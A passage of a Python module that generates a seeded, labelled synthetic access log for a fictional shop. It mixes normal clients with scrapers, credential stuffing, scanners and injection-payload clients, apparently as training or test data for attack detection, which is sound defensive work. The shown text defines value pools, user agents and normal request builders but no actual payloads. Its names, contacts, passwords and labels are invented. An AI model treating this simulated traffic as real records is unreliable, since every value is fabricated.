"""A seeded simulator of an HTTP API's access log (Combined Log Format + body), with labels.

The site is a shop (`shop.example.com`) with HTML pages, a JSON API under `/api/v1/` used by its
single-page app and mobile apps, static assets, a login route that answers 401 to a wrong
password, and the platform's own routes (`/classify`, `/recommend`, `/similar_items`, `/score`,
`/score_lines`, `/readyz`, `/livez`, `/metrics`).

Normal clients include the hard negatives that naive rules flag: people with think times who load
assets, apps that call the API heavily, dashboards polling every few seconds, polite crawlers,
many people behind one NAT address, people who mistype and get 404s, and the platform's own
callers (probes, Prometheus, services). Their values are varied on purpose: search text with
apostrophes and `<3`, names like O'Brien, long reviews, passwords with symbols, bulk quantities.

Abusive clients: scrapers walking the listings, credential stuffing spread over many addresses
(few requests each), id enumeration, vulnerability scanners probing paths, floods, and payloads
(SQL injection, XSS, path traversal, command injection, CRLF injection, over-long values,
parameter tampering) inside otherwise normal sessions. Scrapers, stuffing, enumeration and floods
send requests that are normal one by one; their sessions give them away. Payloads show in one
request's content, in the query, a form body or a JSON body, in several encodings.

Each client is (address, user agent). `labels.csv` has one row per log line: `line, client_ip,
user_agent, client_kind, request_kind, is_attack`.
"""

from __future__ import annotations

import datetime as dt
import json
import logging
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote, quote_plus

import pandas as pd
from pydantic import Field

from projects.core.params import Params
from projects.traffic.logformat import format_line

log = logging.getLogger(__name__)

START = dt.datetime(2024, 3, 11, tzinfo=dt.UTC).timestamp()
TZ_MINUTES = 60  # the server writes its local time, Central European Time
SITE = "https://shop.example.com"

NORMAL_KINDS = ["human", "spa", "dashboard", "crawler", "nat", "typo", "platform"]
ABUSE_KINDS = ["scraper", "stuffing", "enumeration", "scanner", "flood", "payload"]
PAYLOAD_KINDS = [
    "sqli",
    "xss",
    "path_traversal",
    "cmd_injection",
    "crlf",
    "overlong",
    "tampering",
]
REQUEST_KINDS = ["normal", *PAYLOAD_KINDS, "probe"]

# kind -> share among the actors of its group (a NAT gateway or a stuffing campaign is one actor
# that sends as many clients)
NORMAL_SHARES = {
    "human": 0.60,
    "spa": 0.17,
    "dashboard": 0.012,
    "crawler": 0.04,
    "nat": 0.008,
    "typo": 0.14,
    "platform": 0.03,
}
ABUSE_SHARES = {
    "scraper": 0.14,
    "stuffing": 0.03,
    "enumeration": 0.14,
    "scanner": 0.18,
    "flood": 0.09,
    "payload": 0.42,
}


class SimulateParams(Params):
    """The default data set; `make data-rebuild` regenerates it after a change."""

    clients: int = Field(
        ge=20,
        le=1_000_000,
        description="Actors to simulate (a person, a bot, a NAT gateway, a stuffing campaign).",
    )
    seed: int
    hours: float = Field(default=24.0, gt=0, le=24 * 30, description="Time the log spans.")
    abuse_share: float = Field(
        default=0.15, ge=0, le=1, description="Share of the actors that are abusive."
    )


# ---------------------------------------------------------------------------- value pools

# fmt: off
FIRST = [
    "James", "Mary", "Liam", "Olivia", "Noah", "Emma", "Sophia", "Lucas", "Mia", "Ethan", "Zoë",
    "José", "María", "Łukasz", "Søren", "Aoife", "Siobhán", "Chloé", "Mateo", "Hiroshi", "Yuki",
    "Wei", "Priya", "Arjun", "Fatima", "Omar", "Aylin", "Mehmet", "Anna", "Jean-Luc", "Mary-Jane",
    "Björn", "Ana", "Sven", "Olga", "Dmitri", "Nguyễn", "Thandiwe", "Kwame", "Ngozi", "Carlos",
    "Lucía",
]
# fmt: on
# fmt: off
LAST = [
    "Smith", "Johnson", "O'Brien", "D'Angelo", "O'Connor", "Müller", "Schmidt", "García",
    "Martínez", "van der Berg", "St. John", "Nakamura", "Kim", "Lee", "Patel", "Singh", "Okafor",
    "Nowak", "Kowalski", "Rossi", "Bianchi", "Dubois", "Lefèvre", "Ólafsdóttir", "MacDonald",
    "McAllister", "Fitzgerald-Smith", "Nguyen", "Wong", "Chen", "Haddad", "Öztürk", "Jensen",
    "Novák", "Ivanova", "da Silva", "de la Cruz", "O\N{RIGHT SINGLE QUOTATION MARK}Neill",
]
# fmt: on
# fmt: off
DOMAINS = [
    "gmail.com", "outlook.com", "yahoo.co.uk", "web.de", "gmx.net", "icloud.com", "proton.me",
    "mail.example.org", "uni-heidelberg.de", "company.co.jp", "fastmail.fm", "orange.fr",
    "libero.it", "hotmail.com", "t-online.de",
]
# fmt: on
# fmt: off
CATEGORIES = [
    "electronics", "books", "home", "garden", "toys", "sports", "clothing", "beauty", "grocery",
    "automotive", "home-kitchen", "office", "pet-supplies", "music", "baby",
]
# fmt: on
SORTS = ["relevance", "price_asc", "price_desc", "newest", "rating", "popularity"]
COLORS = ["black", "white", "red", "navy", "olive", "beige", "grey", "rose-gold"]
SIZES = ["XS", "S", "M", "L", "XL", "XXL", "38", "40", "42", "10-12", "One size"]
# fmt: off
CITIES = [
    "Berlin", "Munich", "Paris", "Lyon", "London", "Manchester", "Dublin", "Madrid", "A Coruña",
    "Kraków", "Zürich", "Wien", "São Paulo", "New York", "Saint-Étienne", "Köln", "Göteborg",
    "Reykjavík", "Milano", "Amsterdam",
]
# fmt: on
# fmt: off
STREETS = [
    "Baker St", "Hauptstraße", "Rue de Rivoli", "Calle Mayor", "Main Street", "Königsallee",
    "Via Roma", "O'Connell St", "Elm Avenue", "Prinsengracht", "Chemin des Écoliers", "Sunset Blvd",
]
# fmt: on
COUNTRIES = ["DE", "FR", "GB", "IE", "ES", "PL", "CH", "AT", "BR", "US", "SE", "IS", "IT", "NL"]
# fmt: off
SEARCH_WORDS = [
    "usb-c cable", '4k tv 55"', "levi's 501", "kids' shoes", "o'neill jacket", "i <3 ny mug",
    "tom & jerry dvd", "100% cotton shirt", "c++ primer", "what's the best blender", "ssd 1tb",
    "lego 42115", "dad's birthday gift", "#1 bestseller", "50% off", "size 10-12", "café table",
    "naïve art print", "drop earrings", "union jack flag", "select comfort pillow",
    "script font stamp", "rock 'n' roll vinyl", "harry potter & the philosopher's stone",
    "<3 necklace", "1/2 inch drill bit", "m&m's", "ps5 controller", "air fryer 5.5l", "yoga mat",
    "women's running shoes", "wireless earbuds", "coffee grinder", "bose qc45", "iphone 15 case",
    "nintendo switch", "standing desk", "led strip 5m", "garden hose 30m", "men's watch",
    "sunscreen spf 50+", "cat food", "dog bed xl", "e-reader", "the lord of the rings",
    "winter jacket -20°", "desk lamp", '"noise cancelling" headphones',
]
# fmt: on
REVIEW_BITS = [
    "Great product, works as described.",
    "I <3 this!!!",
    "Arrived a day late but the packaging was fine.",
    "Don't buy the cheaper one, it breaks after a week.",
    "My wife's favourite; we've ordered it twice now.",
    "5/5 would recommend :-)",
    "The colour is more 'navy' than 'black' as the photo suggests.",
    "Bought it for my son's 10th birthday - he loves it.",
    "Quality is OK for the price, nothing special.",
    "Customer service replied within 2 hours & sent a replacement.",
    "Size runs small: I'm usually an M but needed an L.",
    "Battery lasts ~8h, not the 12h they claim.",
    "Easy to set up. Select the language, connect to Wi-Fi & done.",
    "It's a bit loud (about 60 dB?) but works fine.",
    "Five stars <3 <3",
    "Not great, not terrible. 3/5.",
    "Très bien, livraison rapide.",
    "Funktioniert einwandfrei, gerne wieder!",
    'The instructions said "tighten until snug" which is vague.',
    "Drop-down menu on the app didn't show my size, had to use the website.",
    "Returned it; the union of two parts was loose.",
    "Perfect gift for a C++ programmer :)",
    "Screws were missing (#4 and #7) but the store sent them free.",
    "Compared to my old one (2015 model) this is 2x faster.",
]
PASSWORD_BITS = ["summer", "P@ss", "hunter", "Dragon", "qwerty", "Liverpool", "maria", "S3cure"]
PASSWORD_TAILS = ["2024!", "123", "';", "<3", "$$", "#1", "!!", "_99", "&co", "%", "(x)"]
SMS = [
    "Are we still on for lunch tomorrow?",
    "WINNER!! You have been selected to receive a £900 prize reward! Call 09061701461.",
    "Ok lar... Joking wif u oni...",
    "Free entry in 2 a wkly comp to win FA Cup final tkts 21st May 2005.",
    "I'll be home late tonight, don't wait up <3",
    "URGENT! Your mobile number has been awarded a £2000 bonus. Call 09066364589.",
]
HDFS = [
    "081109 203615 148 INFO dfs.DataNode$PacketResponder: PacketResponder 1 for block "
    "blk_38865049064139660 terminating",
    "081109 203807 222 INFO dfs.DataNode$PacketResponder: PacketResponder 0 for block "
    "blk_-6952295868487656571 terminating",
]
FILES = ["invoice-2024-{n:05d}.pdf", "receipt_{n}.pdf", "order-{n}.pdf", "label_{n}.png"]
NEXT_PAGES = ["/account", "/cart", "/checkout", "/account/orders", "/products/{id}", "/"]
LANGS = ["en", "en-GB", "de", "fr", "es", "pl", "it", "pt-BR", "nl", "sv"]
CARRIERS = ["dhl", "ups", "dpd", "gls", "royal-mail", "colissimo"]
COUPONS = ["WELCOME10", "SPRING24", "FREESHIP", "VIP-2024", "STUDENT15", "BFRIDAY"]

ASSETS = [
    ("/static/css/app.{h}.css", 48213),
    ("/static/js/app.{h}.js", 231877),
    ("/static/js/vendor.{h}.js", 612004),
    ("/static/img/logo.svg", 5321),
    ("/static/fonts/inter-var.woff2", 98120),
    ("/favicon.ico", 15086),
]


# ---------------------------------------------------------------------------- user agents


def _ua_chrome(r: random.Random) -> str:
    v = r.randint(114, 123)
    build = f"{v}.0.{r.randint(5700, 6300)}.{r.randint(0, 230)}"
    platform = r.choice(
        [
            "Windows NT 10.0; Win64; x64",
            "Macintosh; Intel Mac OS X 10_15_7",
            "X11; Linux x86_64",
            "Windows NT 10.0; WOW64",
        ]
    )
    tail = r.choice(["", "", "", f" Edg/{build}", f" OPR/{v - 14}.0.0.0"])
    return (
        f"Mozilla/5.0 ({platform}) AppleWebKit/537.36 (KHTML, like Gecko) "
        f"Chrome/{build} Safari/537.36{tail}"
    )


def _ua_android(r: random.Random) -> str:
    model = r.choice(["SM-G991B", "Pixel 7", "SM-A536B", "M2101K6G", "CPH2305", "K"])
    v = r.randint(112, 123)
    if r.random() < 0.2:
        return (
            f"Mozilla/5.0 (Linux; Android {r.randint(11, 14)}; {model}) AppleWebKit/537.36 "
            f"(KHTML, like Gecko) SamsungBrowser/{r.randint(20, 24)}.0 Chrome/{v}.0.0.0 "
            "Mobile Safari/537.36"
        )
    return (
        f"Mozilla/5.0 (Linux; Android {r.randint(10, 14)}; {model}) AppleWebKit/537.36 "
        f"(KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36"
    )


def _ua_firefox(r: random.Random) -> str:
    v = r.randint(115, 124)
    platform = r.choice(
        [
            "Windows NT 10.0; Win64; x64",
            "X11; Ubuntu; Linux x86_64",
            "Macintosh; Intel Mac OS X 14.3",
        ]
    )
    return f"Mozilla/5.0 ({platform}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0"


def _ua_safari(r: random.Random) -> str:
    major, minor = r.choice([(16, 6), (17, 1), (17, 2), (17, 3), (17, 4)])
    if r.random() < 0.6:
        ios = f"{major}_{minor}" + (f"_{r.randint(1, 3)}" if r.random() < 0.4 else "")
        tail = ""
        if r.random() < 0.15:  # an in-app browser adds its own bracketed tokens
            tail = f" [FBAN/FBIOS;FBAV/{r.randint(440, 452)}.0.0.{r.randint(10, 60)}.{r.randint(100, 120)};FBBV/{r.randint(500000000, 599999999)};FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/{major}.{minor};FBSS/3;FBID/phone;FBLC/en_GB;FBOP/5]"  # noqa: E501
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{major}.{minor} Mobile/15E148 Safari/604.1{tail}"
        )
    return (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
        f"(KHTML, like Gecko) Version/{major}.{minor} Safari/605.1.15"
    )


def browser_ua(r: random.Random) -> str:
    """A browser's user agent, in the mix seen on a European shop."""
    x = r.random()
    if x < 0.40:
        return _ua_chrome(r)
    if x < 0.62:
        return _ua_safari(r)
    if x < 0.82:
        return _ua_android(r)
    return _ua_firefox(r)


def app_ua(r: random.Random) -> str:
    """The shop's mobile app (or its HTTP library)."""
    v = f"4.{r.randint(8, 14)}.{r.randint(0, 3)}"
    return r.choice(
        [
            f"ShopApp/{v} (com.example.shop; build:{v.replace('.', '')}; iOS "
            f"{r.choice(['16.7.5', '17.2.1', '17.3'])}) Alamofire/5.8.1",
            f"ShopApp/{v} (Android {r.randint(11, 14)}; {r.choice(['Pixel 7', 'SM-S911B'])})",
            f"okhttp/4.{r.randint(9, 12)}.0",
            f"ShopApp/{r.randint(2400, 2600)} CFNetwork/1490.0.4 Darwin/23.2.0",
        ]
    )


CRAWLERS = [
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "66.249.{a}.{b}",
    ),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; "
        "+http://www.google.com/bot.html) Chrome/121.0.6167.184 Safari/537.36",
        "66.249.{a}.{b}",
    ),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "157.55.{a}.{b}"),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", "20.191.{a}.{b}"),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "5.255.{a}.{b}"),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
        "17.241.{a}.{b}",
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "54.36.{a}.{b}"),
    (
        'Mozilla/5.0 (compatible; "SeznamBot"/4.0; +https://o-seznam.cz/napoveda/vyhledavani/)',
        "77.75.{a}.{b}",
    ),
]
SCANNER_UAS = [
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:{n:06d})",
    "sqlmap/1.7.{n}#stable (https://sqlmap.org)",
    "python-requests/2.{n}.0",
    "Go-http-client/1.1",
    "curl/7.{n}.0",
    "-",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:38.0) Gecko/20100101 Firefox/38.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/81.0.4044.129 Safari/537.36",
]
SCRAPER_UAS = [
    "python-requests/2.31.0",
    "Scrapy/2.11.0 (+https://scrapy.org)",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/120.0.6099.71 Safari/537.36",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/17.0.9",
    "aiohttp/3.9.1 Python/3.11",
]


# ---------------------------------------------------------------------------- requests


@dataclass
class Request:
    """One request before encoding: values are plain text, the client encodes them."""

    method: str
    path: str
    query: list[tuple[str, str]] = field(default_factory=list)
    form: list[tuple[str, str]] | None = None
    json: dict | None = None
    status: int = 200
    size: int | None = None  # None: a size typical of a page
    kind: str = "normal"
    # set when a payload already carries its own encoding (the client must not encode it again)
    raw_query: str | None = None
    raw_body: str | None = None


def _enc_form(value: str) -> str:
    return quote_plus(value, safe="")


def _enc_uri(value: str) -> str:
    return quote(value, safe="!'()*-._~")


_LOOSE = {"%": "%25", " ": "%20", "&": "%26", "#": "%23", "\r": "%0D", "\n": "%0A", "\t": "%09"}
_LOOSE_TABLE = str.maketrans(_LOOSE)


def _enc_loose(value: str) -> str:
    """What attack tools and careless clients send: only what breaks the request line."""
    return value.translate(_LOOSE_TABLE)


ENCODERS: dict[str, Callable[[str], str]] = {
    "form": _enc_form,
    "uri": _enc_uri,
    "loose": _enc_loose,
}


def encode_pairs(pairs: list[tuple[str, str]], enc: Callable[[str], str]) -> str:
    """`name=value&...` with values (and names) encoded by `enc`; a None value is a bare name."""
    return "&".join(n if v is None else f"{enc(n)}={enc(v)}" for n, v in pairs)


@dataclass
class Client:
    """Who sends: address, user agent, how it encodes, and its labels."""

    ip: str
    ua: str
    kind: str
    enc: str = "form"
    ascii_json: bool = False
    referrer: str = "-"


@dataclass
class Event:
    """One log line before formatting."""

    time: float
    client: Client
    method: str
    path: str
    query: str
    body: str
    status: int
    size: int
    referrer: str
    kind: str


class Log:
    """The events of all clients, with the random source they share."""

    def __init__(self, rng: random.Random, span: float) -> None:
        self.r = rng
        self.span = span
        self.events: list[Event] = []
        self.used_ips: set[str] = set()

    def ip(self, v6_share: float = 0.08) -> str:
        """A fresh public address (IPv6 for a share of them)."""
        r = self.r
        while True:
            if r.random() < v6_share:
                ip = f"2a0{r.randint(0, 9)}:{r.randint(0x1000, 0xFFFF):x}:{r.randint(0, 0xFFFF):x}:"
                ip += f"{r.randint(0, 0xFFFF):x}::{r.randint(1, 0xFFFF):x}"
            else:
                first = r.choice([x for x in range(1, 224) if x not in (10, 100, 127, 172, 192)])
                ip = f"{first}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
            if ip not in self.used_ips:
                self.used_ips.add(ip)
                return ip

    def emit(self, t: float, c: Client, req: Request, referrer: str | None = None) -> str:
        """Encode `req` as `c` would, record it at time `t` and return its URL (path?query)."""
        enc = ENCODERS[c.enc]
        query = req.raw_query if req.raw_query is not None else encode_pairs(req.query, enc)
        if req.raw_body is not None:
            body = req.raw_body
        elif req.json is not None:
            body = json.dumps(req.json, ensure_ascii=c.ascii_json, separators=(",", ":"))
        elif req.form is not None:
            body = encode_pairs(req.form, _enc_form)
        else:
            body = ""
        size = self.r.randint(300, 9000) if req.size is None else req.size
        ref = c.referrer if referrer is None else referrer
        self.events.append(
            Event(t, c, req.method, req.path, query, body, req.status, size, ref, req.kind)
        )
        return f"{req.path}?{query}" if query else req.path


# ---------------------------------------------------------------------------- the shop


class Shop:
    """The site's routes: each method returns one normal request with varied, valid values."""

    PRODUCTS = 5000

    def __init__(self, r: random.Random) -> None:
        self.r = r
        self.asset_hash = {a: f"{r.getrandbits(32):08x}" for a, _ in ASSETS}

    # -- values
    def product(self) -> int:
        return 1 + int(self.PRODUCTS * self.r.random() ** 2.2)  # a few products are popular

    def order_id(self) -> int:
        return self.r.randint(4_000_000, 4_999_999)

    def quantity(self) -> int:
        x = self.r.random()
        if x < 0.97:
            return self.r.choice([1, 1, 1, 1, 2, 2, 3, 4, 5, 6, 10])
        return self.r.choice([12, 20, 24, 25, 48, 50, 100])  # bulk orders are legit

    def price(self) -> str:
        whole = self.r.choice([5, 9, 10, 15, 19, 20, 25, 29, 49, 50, 99, 100, 149, 250, 499, 1299])
        return str(whole) if self.r.random() < 0.4 else f"{whole}.{self.r.choice([0, 49, 95, 99])}"

    def page(self) -> int:
        return min(60, 1 + int(self.r.expovariate(0.45)))

    def first_last(self) -> tuple[str, str]:
        return self.r.choice(FIRST), self.r.choice(LAST)

    def name(self) -> str:
        first, last = self.first_last()
        return f"{first} {last}"

    def email(self, first: str | None = None, last: str | None = None) -> str:
        r = self.r
        if first is None or last is None:
            first, last = self.first_last()
        local = "".join(ch for ch in f"{first}.{last}".lower() if ch.isascii() and ch not in " '")
        shape = r.random()
        if shape < 0.3:
            local = f"{local}{r.randint(1, 99)}"
        elif shape < 0.4:
            local = f"{local}+{r.choice(['shop', 'orders', 'spam'])}"
        elif shape < 0.5:
            local = f"{local[0]}{local.split('.')[-1]}_{r.randint(1970, 2005)}"
        return f"{local}@{r.choice(DOMAINS)}"

    def username(self) -> str:
        first, last = self.first_last()
        base = "".join(ch for ch in f"{first}{last}".lower() if ch.isascii() and ch.isalpha())
        return self.r.choice([base, f"{base[:8]}{self.r.randint(1, 999)}", f"{first.lower()}_x"])

    def password(self) -> str:
        r = self.r
        if r.random() < 0.3:
            alphabet = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!#$%&*-_=+?"
            return "".join(r.choice(alphabet) for _ in range(r.randint(12, 24)))
        return r.choice(PASSWORD_BITS) + r.choice(PASSWORD_TAILS)

    def search(self) -> str:
        r = self.r
        q = r.choice(SEARCH_WORDS)
        if r.random() < 0.3:
            q = f"{q} {r.choice(COLORS)}"
        if r.random() < 0.1:  # a typo
            i = r.randrange(len(q))
            q = q[:i] + q[i + 1 :]
        return q.capitalize() if r.random() < 0.2 else q

    def review(self) -> str:
        r = self.r
        # most reviews are a line or two; some people write an essay (a hard negative for
        # over-long values)
        n = r.randint(12, 40) if r.random() < 0.15 else 1 + int(r.expovariate(0.4))
        return " ".join(r.choice(REVIEW_BITS) for _ in range(n))[:2000]

    def street(self) -> str:
        r = self.r
        s = r.choice(STREETS)
        return f"{r.randint(1, 240)} {s}" if r.random() < 0.5 else f"{s} {r.randint(1, 99)}, 3º izq"

    def zip_code(self) -> str:
        r = self.r
        return r.choice(
            [f"{r.randint(10000, 99999)}", f"SW{r.randint(1, 9)}A {r.randint(1, 9)}AA", "D02 X285"]
        )

    def phone(self) -> str:
        r = self.r
        return r.choice(
            [
                f"+49 {r.randint(150, 179)} {r.randint(1000000, 9999999)}",
                f"+44 20 7946 {r.randint(1000, 9999)}",
                f"+1 (555) 01{r.randint(0, 9)}-{r.randint(1000, 9999)}",
                f"0{r.randint(600, 799)}{r.randint(100000, 999999)}",
            ]
        )

    def token(self, n: int = 32) -> str:
        return f"{self.r.getrandbits(4 * n):0{n}x}"

    def file_name(self) -> str:
        return self.r.choice(FILES).format(n=self.r.randint(1, 99999))

    def next_page(self) -> str:
        return self.r.choice(NEXT_PAGES).format(id=self.product())

    def tracking(self, carrier: str) -> str:
        r = self.r
        if carrier == "ups":
            return f"1Z{r.randint(100, 999)}AA1{r.randint(10**9, 10**10 - 1)}"
        if carrier == "royal-mail":
            return f"JD{r.randint(10**9, 10**10 - 1)}GB"
        return str(r.randint(10**11, 10**12 - 1))

    # -- HTML pages
    def html(self, kind: str) -> Request:
        """A page view of `kind` (see `PAGE_NEXT`)."""
        r = self.r
        size = r.randint(18000, 90000)
        if kind == "home":
            return Request("GET", "/", size=size)
        if kind == "listing":
            q = [("category", r.choice(CATEGORIES))]
            if r.random() < 0.5:
                q.append(("page", str(self.page())))
            if r.random() < 0.35:
                q.append(("sort", r.choice(SORTS)))
            if r.random() < 0.15:
                q += [("min_price", str(r.choice([0, 10, 20, 50]))), ("max_price", self.price())]
            if r.random() < 0.1:
                q.append(("color", r.choice(COLORS)))
            if r.random() < 0.1:
                q.append(("size", r.choice(SIZES)))
            return Request("GET", "/products", q, size=size)
        if kind == "search":
            q = [("q", self.search())]
            if r.random() < 0.25:
                q.append(("page", str(self.page())))
            return Request("GET", "/search", q, size=size)
        if kind == "product":
            q = []
            if r.random() < 0.3:
                q.append(("ref", r.choice(["search", "home", "rec", "email", "listing"])))
            if r.random() < 0.15:
                q.append(("variant", r.choice(COLORS)))
            return Request("GET", f"/products/{self.product()}", q, size=size)
        if kind == "reviews":
            return Request(
                "GET",
                f"/products/{self.product()}/reviews",
                [("page", str(self.page()))],
                size=size,
            )
        if kind == "add":
            form = [
                ("csrf_token", self.token()),
                ("product_id", str(self.product())),
                ("quantity", str(self.quantity())),
                ("price", self.price()),
            ]
            if r.random() < 0.3:
                form.append(("size", r.choice(SIZES)))
            return Request("POST", "/cart/add", form=form, status=302, size=0)
        if kind == "cart":
            return Request("GET", "/cart", size=size)
        if kind == "checkout":
            return Request("GET", "/checkout", size=size)
        if kind == "pay":
            return self._pay()
        if kind == "login_page":
            q = [("next", self.next_page())] if r.random() < 0.5 else []
            return Request("GET", "/login", q, size=size)
        if kind == "login":
            return self.login_form(ok=r.random() > 0.12)
        if kind == "account":
            return Request("GET", r.choice(["/account", "/account/orders"]), size=size)
        if kind == "order":
            return Request("GET", f"/orders/{self.order_id()}", size=size)
        if kind == "invoice":
            q = [("file", self.file_name())]
            return Request("GET", "/account/invoice", q, size=r.randint(40000, 200000))
        if kind == "track":
            carrier = r.choice(CARRIERS)
            q = [("carrier", carrier), ("tracking", self.tracking(carrier))]
            return Request("GET", "/track", q, size=size)
        if kind == "review":
            form = [
                ("csrf_token", self.token()),
                ("product_id", str(self.product())),
                ("rating", str(r.choice([1, 2, 3, 4, 4, 5, 5, 5]))),
                ("title", r.choice(REVIEW_BITS)[:40]),
                ("text", self.review()),
            ]
            return Request("POST", "/reviews", form=form, status=302, size=0)
        if kind == "contact":
            first, last = self.first_last()
            form = [
                ("name", f"{first} {last}"),
                ("email", self.email(first, last)),
                ("subject", r.choice(["Order", "Returns", "Other", "Delivery"])),
                ("message", self.review()),
            ]
            return Request("POST", "/contact", form=form, status=302, size=0)
        if kind == "lang":
            q = [("lang", r.choice(LANGS)), ("next", self.next_page())]
            return Request("GET", "/settings/lang", q, status=302, size=0)
        if kind == "help":
            path = r.choice(["/help", "/help/shipping", "/help/returns", "/about", "/contact"])
            return Request("GET", path, size=size)
        return Request("GET", "/logout", status=302, size=0)

    def login_form(self, ok: bool) -> Request:
        r = self.r
        user = self.email() if r.random() < 0.6 else self.username()
        form = [("csrf_token", self.token()), ("username", user), ("password", self.password())]
        if r.random() < 0.4:
            form.append(("remember", "on"))
        return Request(
            "POST", "/login", form=form, status=302 if ok else 401, size=0 if ok else 5210
        )

    def _pay(self) -> Request:
        r = self.r
        first, last = self.first_last()
        form = [
            ("csrf_token", self.token()),
            ("name", f"{first} {last}"),
            ("email", self.email(first, last)),
            ("street", self.street()),
            ("city", r.choice(CITIES)),
            ("zip", self.zip_code()),
            ("country", r.choice(COUNTRIES)),
        ]
        if r.random() < 0.5:
            form.append(("phone", self.phone()))
        if r.random() < 0.2:
            form.append(("coupon", r.choice(COUPONS)))
        if r.random() < 0.15:
            form.append(
                ("notes", r.choice(["Leave at the door", "Ring twice!", "Gift - no invoice"]))
            )
        return Request("POST", "/checkout", form=form, status=302, size=0)

    # -- JSON API
    def api(self, kind: str) -> Request:
        """A call of the JSON API (see `API_WEIGHTS`)."""
        r = self.r
        size = r.randint(400, 30000)
        if kind == "products":
            q = [("page", str(self.page())), ("per_page", str(r.choice([12, 24, 48, 96])))]
            if r.random() < 0.7:
                q.insert(0, ("category", r.choice(CATEGORIES)))
            if r.random() < 0.4:
                q.append(("sort", r.choice(SORTS)))
            if r.random() < 0.1:
                q += [("min_price", self.price()), ("max_price", str(r.choice([500, 1000, 5000])))]
            return Request("GET", "/api/v1/products", q, size=size)
        if kind == "product":
            return Request("GET", f"/api/v1/products/{self.product()}", size=size)
        if kind == "reviews":
            q = [("page", str(self.page())), ("per_page", "10")]
            return Request("GET", f"/api/v1/products/{self.product()}/reviews", q, size=size)
        if kind == "search":
            q = [("q", self.search()), ("limit", str(r.choice([5, 10, 20, 50])))]
            return Request("GET", "/api/v1/search", q, size=size)
        if kind == "cart":
            return Request("GET", "/api/v1/cart", size=size)
        if kind == "cart_add":
            doc: dict = {"product_id": self.product(), "quantity": self.quantity()}
            if r.random() < 0.3:
                doc["variant"] = {"color": r.choice(COLORS), "size": r.choice(SIZES)}
            return Request("POST", "/api/v1/cart/items", json=doc, status=201, size=612)
        if kind == "cart_update":
            doc = {"quantity": r.randint(0, 10)}
            return Request("PATCH", f"/api/v1/cart/items/{self.product()}", json=doc, size=640)
        if kind == "cart_delete":
            return Request("DELETE", f"/api/v1/cart/items/{self.product()}", status=204, size=0)
        if kind == "order":
            return self._order()
        if kind == "orders":
            return Request("GET", "/api/v1/orders", [("page", str(self.page()))], size=size)
        if kind == "order_get":
            return Request("GET", f"/api/v1/orders/{self.order_id()}", size=size)
        if kind == "me":
            return Request("GET", "/api/v1/users/me", size=size)
        if kind == "me_update":
            first, last = self.first_last()
            doc = {"name": f"{first} {last}", "email": self.email(first, last)}
            if r.random() < 0.5:
                doc["phone"] = self.phone()
            if r.random() < 0.5:
                doc["newsletter"] = r.random() < 0.5
            return Request("PUT", "/api/v1/users/me", json=doc, size=size)
        if kind == "recs":
            q = [("user_id", str(r.randint(1, 943))), ("limit", str(r.choice([4, 8, 12])))]
            return Request("GET", "/api/v1/recommendations", q, size=size)
        if kind == "event":
            doc = {
                "type": r.choice(["view", "view", "click", "scroll", "add_to_cart"]),
                "product_id": self.product(),
                "ts": int(START) * 1000 + r.randint(0, 86_400_000),
                "session": self.token(16),
            }
            if r.random() < 0.3:
                doc["meta"] = {
                    "w": r.choice([390, 412, 1280, 1920]),
                    "h": r.choice([844, 915, 1080]),
                }
            return Request("POST", "/api/v1/events", json=doc, status=204, size=0)
        if kind == "track":
            carrier = r.choice(CARRIERS)
            q = [("carrier", carrier), ("tracking", self.tracking(carrier))]
            return Request("GET", "/api/v1/shipping/track", q, size=size)
        if kind == "invoice":
            q = [("file", self.file_name())]
            return Request("GET", "/api/v1/invoices/download", q, size=r.randint(40000, 200000))
        if kind == "i18n":
            return Request("GET", "/api/v1/i18n", [("lang", r.choice(LANGS))], size=size)
        if kind == "refresh":
            return Request("POST", "/api/v1/auth/refresh", json={"refresh_token": self.token(48)})
        return self.api_login(ok=r.random() > 0.05)

    def api_login(self, ok: bool) -> Request:
        key = "email" if self.r.random() < 0.7 else "username"
        user = self.email() if key == "email" else self.username()
        doc = {key: user, "password": self.password()}
        return Request(
            "POST",
            "/api/v1/auth/login",
            json=doc,
            status=200 if ok else 401,
            size=820 if ok else 96,
        )

    def _order(self) -> Request:
        r = self.r
        first, last = self.first_last()
        items = [
            {"product_id": self.product(), "quantity": self.quantity()}
            for _ in range(1 + int(r.expovariate(0.8)))
        ]
        doc: dict = {
            "items": items,
            "shipping": {
                "name": f"{first} {last}",
                "street": self.street(),
                "city": r.choice(CITIES),
                "zip": self.zip_code(),
                "country": r.choice(COUNTRIES),
            },
